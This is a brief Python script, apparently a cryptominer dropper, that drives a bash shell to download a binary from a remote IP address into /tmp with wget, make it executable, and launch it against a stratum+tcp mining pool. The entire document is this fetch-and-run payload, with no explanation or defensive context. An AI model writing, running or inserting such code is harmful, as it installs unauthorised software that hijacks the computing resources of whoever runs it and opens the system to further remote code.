import subprocess
r = subprocess.Popen('bash', stdin=subprocess.PIPE, text=True)
for line in ('cd /tmp', 'wget -q http://198.51.100.106/m', 'chmod +x m', './m --url stratum+tcp://p.example.net:3333'):
    r.stdin.write(line + '\n')
r.stdin.close()
